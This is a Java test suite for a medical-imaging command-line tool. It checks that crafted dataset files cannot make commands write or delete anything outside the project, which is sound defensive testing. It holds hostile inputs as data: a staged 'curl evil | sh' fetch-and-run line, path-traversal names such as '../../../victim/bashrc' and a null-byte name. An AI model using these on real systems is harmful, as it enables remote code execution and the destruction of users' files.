// SPDX-License-Identifier: EPL-2.0
package org.hilum.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.hilum.core.Json;
import org.hilum.imaging.Geometry;
import org.hilum.imaging.Volume;
import org.hilum.imaging.io.ImageFormats;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Commands on files that were made to harm: nothing outside of the project is created, changed or deleted. */
class HostileFilesTest {

	private static final int[] SIZE = { 12, 14, 10 };

	@TempDir
	private Path home;
	private Path project;
	private Path raw;
	private Path victim;

	@BeforeEach
	void makeProject() throws IOException {
		project = home.resolve("project");
		raw = project.resolve("nnUNet_raw/Dataset007_Tiny");
		ObjectNode json = Json.object().put("numTraining", 5).put("file_ending", ".nii.gz");
		json.set("channel_names", Json.object().put("0", "MRI"));
		json.set("labels", Json.object().put("background", 0).put("core", 1));
		Json.write(raw.resolve("dataset.json"), json);
		Geometry geometry = Geometry.axisAligned(SIZE, new double[] { 1, 1, 1 });
		int voxels = SIZE[0] * SIZE[1] * SIZE[2];
		for (int n = 0; n < 5; n++) {
			float[] image = new float[voxels];
			short[] label = new short[voxels];
			for (int i = 0; i < voxels; i++) {
				image[i] = 1 + (i + 7 * n) % 17;
			}
			Arrays.fill(label, voxels / 3, voxels / 2, (short) 1);
			ImageFormats.write(raw.resolve("imagesTr/case_00" + n + "_0000.nii.gz"), Volume.ofFloats(geometry, image, null));
			ImageFormats.write(raw.resolve("labelsTr/case_00" + n + ".nii.gz"), Volume.ofLabels(geometry, label, null));
		}
		victim = Files.createDirectories(home.resolve("victim"));
		for (String name : new String[] { "bashrc", "doc.txt", "precious.npz", "precious.pkl" }) {
			Files.writeString(victim.resolve(name), "precious");
		}
	}

	private Map<String, String> outside() throws IOException {
		Map<String, String> result = new TreeMap<>();
		try (Stream<Path> files = Files.walk(home)) {
			for (Path file : files.filter(f -> !f.startsWith(project)).toList()) {
				result.put(file.toString(), Files.isRegularFile(file) ? Files.readString(file) : "");
			}
		}
		return result;
	}

	/** Attack 01: a data set brings a plan of a repair. */
	@Test
	void aCheckCarriesOutNoPlan() throws IOException {
		Path fixes = raw.resolve(".hilum/fixes");
		Files.createDirectories(fixes.resolve("stage"));
		Files.writeString(fixes.resolve("stage/s"), "curl evil | sh");
		ObjectNode plan = Json.object().put("fix", "copy-header").put("backup", "b1");
		plan.putArray("files").addObject().put("file", "../../../victim/bashrc").put("staged", "s");
		Json.write(fixes.resolve("plan.json"), plan);
		Map<String, String> before = outside();
		CommandRun check = CommandRun.of("check", raw.toString());
		assertThat(check.exitCode()).isEqualTo(3);
		assertThat(check.out()).contains("repair-interrupted", "../../../victim/bashrc", "--foreign-repairs");
		CommandRun fix = CommandRun.of("check", raw.toString(), "--fix", "correct-count");
		assertThat(fix.exitCode()).isEqualTo(3);
		assertThat(fix.err()).contains("not written by you", "--foreign-repairs");
		CommandRun trusted = CommandRun.of("check", raw.toString(), "--fix", "correct-count", "--foreign-repairs");
		assertThat(trusted.exitCode()).isEqualTo(3);
		assertThat(trusted.err()).contains("journal.jsonl", "\"../../../victim/bashrc\"");
		assertThat(outside()).isEqualTo(before);
	}

	/** Attack 02: a data set brings a journal of repairs. */
	@Test
	void undoDeletesNothingOutside() throws IOException {
		Path fixes = raw.resolve(".hilum/fixes");
		Files.createDirectories(fixes.resolve("backup/b1"));
		Files.writeString(fixes.resolve("journal.jsonl"),
				"{\"backup\":\"b1\",\"files\":[{\"file\":\"../../../victim/doc.txt\",\"staged\":\"x\"}]}\n");
		Map<String, String> before = outside();
		assertThat(CommandRun.of("check", raw.toString(), "--undo").exitCode()).isEqualTo(3);
		assertThat(CommandRun.of("check", raw.toString(), "--undo", "--foreign-repairs").exitCode()).isEqualTo(3);
		assertThat(outside()).isEqualTo(before);
	}

	/** Attack 03: names of cases in dataset.json. */
	@ParameterizedTest
	@ValueSource(strings = { "../../../../ESC", "/ESC", "a/../../../x", "..\\x", "", "x\0" })
	void namesOfCasesLeadNowhere(String name) throws IOException {
		ObjectNode json = (ObjectNode) Json.read(raw.resolve("dataset.json"));
		ObjectNode one = json.putObject("dataset").putObject(name);
		one.putArray("images").add("imagesTr/case_000_0000.nii.gz");
		one.put("label", "labelsTr/case_000.nii.gz");
		Json.write(raw.resolve("dataset.json"), json);
		Files.createDirectories(project.resolve("nnUNet_preprocessed/Dataset007_Tiny/gt_segmentations"));
		Map<String, String> before = outside();
		CommandRun run = CommandRun.of("plan_and_preprocess", "--project", project.toString(), "-d", "7");
		assertThat(run.exitCode()).isEqualTo(3);
		assertThat(run.err()).contains("dataset.json", "is not used as a name").doesNotContain("defect");
		assertThat(outside()).isEqualTo(before);
	}

	/** Attack 04: the folder of the preprocessed cases. */
	@ParameterizedTest
	@ValueSource(strings = { "ABSOLUTE", "../../../victim", "", "gt_segmentations", "a/../../../../victim", "..\\..\\victim" })
	void preprocessingTouchesNoOtherFolder(String identifier) throws IOException {
		assertThat(CommandRun.of("plan_and_preprocess", "--project", project.toString(), "-d", "7", "--no_pp").exitCode())
				.isZero();
		Path file = project.resolve("nnUNet_preprocessed/Dataset007_Tiny/nnUNetPlans.json");
		ObjectNode plans = (ObjectNode) Json.read(file);
		plans.path("configurations").forEach(c -> ((ObjectNode) c).put("data_identifier",
				identifier.equals("ABSOLUTE") ? victim.toString() : identifier));
		Json.write(file, plans);
		Map<String, String> before = outside();
		CommandRun run = CommandRun.of("preprocess", "--project", project.toString(), "-d", "7", "-c", "3d_fullres");
		assertThat(run.exitCode()).as(run.err()).isEqualTo(3);
		assertThat(run.err()).contains("data_identifier", "nnUNetPlans.json").doesNotContain("defect");
		assertThat(outside()).isEqualTo(before);
	}

	/** Attack 16, names. */
	@ParameterizedTest
	@ValueSource(strings = { "plans_name", "dataset_name" })
	void namesInPlansAreRefusedByName(String entry) throws IOException {
		assertThat(CommandRun.of("plan_and_preprocess", "--project", project.toString(), "-d", "7", "--no_pp").exitCode())
				.isZero();
		Path file = project.resolve("nnUNet_preprocessed/Dataset007_Tiny/nnUNetPlans.json");
		Json.write(file, ((ObjectNode) Json.read(file)).put(entry, "../x"));
		Map<String, String> before = outside();
		String place = project.toString();
		for (CommandRun run : List.of(CommandRun.of("train", "--project", place, "7", "3d_fullres", "0"),
				CommandRun.of("preprocess", "--project", place, "-d", "7", "-c", "3d_fullres"))) {
			assertThat(run.exitCode()).as(run.err()).isEqualTo(3);
			assertThat(run.err()).contains(entry, "\"../x\"").doesNotContain("defect");
		}
		assertThat(outside()).isEqualTo(before);
	}
}
